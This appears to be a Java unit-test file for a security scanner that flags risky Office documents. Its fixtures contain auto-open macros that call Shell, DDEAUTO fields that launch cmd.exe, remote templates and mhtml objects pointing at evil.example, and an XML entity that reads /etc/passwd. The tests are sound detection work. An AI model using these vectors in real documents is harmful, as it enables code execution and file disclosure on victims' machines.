// SPDX-License-Identifier: Apache-2.0
package org.postern.analysis.document;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvFileSource;
import org.postern.analysis.facts.Member;

class OfficeDocumentTest {
    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private static byte[] relationships(String type, String target, String mode) {
        return OfficeFiles.xml("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"r1\" Type=\"" + RELATIONSHIPS + type + "\" Target=\"" + target + "\" TargetMode=\"" + mode
            + "\"/></Relationships>");
    }

    @ParameterizedTest(name = "{0}")
    @CsvFileSource(resources = "macros.csv", delimiter = '|', ignoreLeadingAndTrailingWhitespace = true)
    void macrosShouldBeGradedByTheirSource(String source, boolean auto, boolean suspicious) throws Exception {
        Looking seen = Looking.at("a.doc", OfficeFiles.doc(Map.of("Module1", source.replace("\\n", "\r\n")), new byte[100]));

        assertThat(seen.kinds()).contains("document.macro").doesNotContain("document.corrupt");
        assertThat(seen.kinds().contains("document.macro.auto")).as("runs by itself").isEqualTo(auto);
        assertThat(seen.kinds().contains("document.macro.suspicious")).as("reaches out").isEqualTo(suspicious);
    }

    @Test
    void documentWithoutMacrosShouldHaveNoFacts() throws Exception {
        assertThat(Looking.at("a.doc", OfficeFiles.ole(Map.of("WordDocument", new byte[5000]))).kinds()).isEmpty();
        assertThat(Looking.at("a.docx", OfficeFiles.zip(Map.of("word/document.xml",
            OfficeFiles.xml("<w:document xmlns:w=\"w\"><w:t>Auto_Open DDEAUTO cmd</w:t></w:document>")))).kinds()).isEmpty();
    }

    @Test
    void macrosInANewDocumentShouldBeFoundThroughItsMembers() throws Exception {
        byte[] project = OfficeFiles.macroProject(Map.of("ThisDocument", "Sub Document_Open()\r\nShell \"x\"\r\nEnd Sub"));
        Looking seen = Looking.at("a.docm", OfficeFiles.zip(Map.of("word/vbaProject.bin", project)));

        assertThat(seen.kinds()).contains("document.macro", "document.macro.auto", "document.macro.suspicious");
        assertThat(seen.detail("document.macro.auto")).contains("document_open");
        assertThat(seen.part().members()).extracting(Member::facts).first().asList().contains("document.macro.auto");
    }

    @Test
    void macrosWithoutTheirSourceShouldBeSuspicious() throws Exception {
        Looking seen = Looking.at("a.doc", OfficeFiles.doc(Map.of("Module1", ""), new byte[100]));

        assertThat(seen.kinds()).contains("document.macro.suspicious");
        assertThat(seen.detail("document.macro.suspicious")).contains("compiled without source");
    }

    @Test
    void macrosShouldBeFoundInAContainerThatIsSpoilt() throws Exception {
        byte[] file = OfficeFiles.doc(Map.of("Module1", "Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub"), new byte[100]);
        byte[] greedy = file.clone();
        ByteBuffer.wrap(greedy).order(ByteOrder.LITTLE_ENDIAN).putInt(44, 0x00ffffff);
        byte[] cut = Arrays.copyOf(file, file.length - 600);

        assertThat(Looking.at("a.doc", greedy).kinds()).contains("document.corrupt", "document.macro.auto");
        assertThat(Looking.at("a.doc", cut).kinds()).contains("document.macro.auto");
    }

    @Test
    void damagedContainersShouldNeverBreakTheLookIntoThem() throws Exception {
        byte[] file = OfficeFiles.doc(Map.of("Module1", "Sub AutoOpen()\r\nEnd Sub"), new byte[3000]);
        Random random = new Random(4);
        for (int i = 0; i < 300; i++) {
            byte[] damaged = file.clone();
            for (int j = 0; j < 1 + random.nextInt(20); j++) {
                damaged[8 + random.nextInt(damaged.length - 8)] = (byte) random.nextInt();
            }
            Looking seen = Looking.at("a.doc", damaged, Duration.ofSeconds(5));
            assertThat(seen.kinds()).as("try " + i + seen.detail("inspection.failed")).doesNotContain("inspection.failed");
        }
    }

    @Test
    void encryptedDocumentsShouldBeTold() throws Exception {
        byte[] word = new byte[100];
        word[11] = 1;
        byte[] excel = {0x09, 0x08, 2, 0, 0, 0, 0x2f, 0, 2, 0, 0, 0};

        assertThat(Looking.at("a.docx", OfficeFiles.ole(Map.of("EncryptedPackage", new byte[100], "EncryptionInfo", new byte[10]))).kinds())
            .containsExactly("document.encrypted");
        assertThat(Looking.at("a.doc", OfficeFiles.ole(Map.of("WordDocument", word))).kinds()).containsExactly("document.encrypted");
        assertThat(Looking.at("a.xls", OfficeFiles.ole(Map.of("Workbook", excel))).kinds()).containsExactly("document.encrypted");
    }

    @Test
    void macroSheetsShouldCountAsMacros() throws Exception {
        byte[] sheet = {(byte) 0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 'x'};

        assertThat(Looking.at("a.xls", OfficeFiles.ole(Map.of("Workbook", sheet))).kinds())
            .contains("document.macro", "document.macro.suspicious");
        assertThat(Looking.at("a.xlsm", OfficeFiles.zip(Map.of(
            "xl/workbook.xml", OfficeFiles.xml("<workbook><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></workbook>"),
            "xl/macrosheets/sheet1.xml", OfficeFiles.xml("<macrosheet/>")))).kinds())
            .contains("document.macro", "document.macro.auto", "document.macro.suspicious");
    }

    @Test
    void dynamicDataExchangeShouldBeFoundInEveryForm() throws Exception {
        byte[] word = "text \u0013 DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" \u0014 more".getBytes(StandardCharsets.UTF_16LE);
        List<Looking> all = List.of(
            Looking.at("a.doc", OfficeFiles.ole(Map.of("WordDocument", word))),
            Looking.at("a.docx", OfficeFiles.zip(Map.of("word/document.xml", OfficeFiles.xml("<w:document xmlns:w=\"w\"><w:instrText>DDE"
                + "</w:instrText><w:t>x</w:t><w:instrText>AUTO \"cmd.exe\" \"/k calc\"</w:instrText></w:document>")))),
            Looking.at("a.docx", OfficeFiles.zip(Map.of("word/header1.xml",
                OfficeFiles.xml("<w:hdr xmlns:w=\"w\"><w:fldSimple w:instr='DDE \"cmd.exe\" x'/></w:hdr>")))),
            Looking.at("a.xlsx", OfficeFiles.zip(Map.of("xl/externalLinks/externalLink1.xml",
                OfficeFiles.xml("<externalLink><ddeLink ddeService=\"cmd.exe\" ddeTopic=\"/c calc\"/></externalLink>")))),
            Looking.at("a.rtf", "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO \"cmd.exe\" \"/k calc\"}}}".getBytes(StandardCharsets.US_ASCII)));

        assertThat(all).allSatisfy(seen -> {
            assertThat(seen.kinds()).containsExactly("document.dde");
            assertThat(seen.detail("document.dde")).contains("cmd");
        });
    }

    @Test
    void templatesAndObjectsElsewhereShouldBeFactsAndTheirPlacesUris() throws Exception {
        Looking template = Looking.at("a.docx", OfficeFiles.zip(Map.of("word/_rels/settings.xml.rels",
            relationships("attachedTemplate", "https://evil.example/t.dotm", "External"))));
        Looking object = Looking.at("a.docx", OfficeFiles.zip(Map.of("word/_rels/document.xml.rels",
            relationships("oleObject", "mhtml:https://evil.example/x.html!x", "External"))));
        Looking rich = Looking.at("a.doc", "{\\rtf1{\\*\\template http://evil.example/t}}".getBytes(StandardCharsets.US_ASCII));

        assertThat(template.kinds()).containsExactly("document.external-template");
        assertThat(template.uris()).contains("https://evil.example/t.dotm");
        assertThat(object.kinds()).containsExactly("document.external-object");
        assertThat(rich.kinds()).containsExactly("document.external-template");
        assertThat(rich.uris()).contains("http://evil.example/t");
    }

    @Test
    void linksInADocumentShouldBeUrisAndNothingElse() throws Exception {
        Looking seen = Looking.at("a.docx", OfficeFiles.zip(Map.of("word/_rels/document.xml.rels",
            relationships("hyperlink", "https://shop.example/offer", "External"))));

        assertThat(seen.kinds()).isEmpty();
        assertThat(seen.uris()).contains("https://shop.example/offer");
        assertThat(Looking.at("a.docx", OfficeFiles.zip(Map.of("word/_rels/document.xml.rels",
            relationships("image", "media/image1.png", "Internal")))).kinds()).isEmpty();
    }

    @Test
    void entitiesOfXmlShouldNotBeFollowed() throws Exception {
        Looking seen = Looking.at("a.docx", OfficeFiles.zip(Map.of("word/_rels/settings.xml.rels", OfficeFiles.xml(
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b \"&a;&a;\">]><Relationships>&b;</Relationships>"))));

        assertThat(seen.text()).doesNotContain("root:");
        assertThat(seen.uris()).isEmpty();
    }

    @Test
    void openDocumentMacrosShouldBeGraded() throws Exception {
        Looking seen = Looking.at("a.odt", OfficeFiles.zip(Map.of("Basic/Standard/Module1.xml", OfficeFiles.xml(
            "<script:module xmlns:script=\"s\">Sub AutoOpen()\nShell(&quot;calc&quot;)\nEnd Sub</script:module>"))));

        assertThat(seen.kinds()).contains("document.macro", "document.macro.auto", "document.macro.suspicious");
    }
}
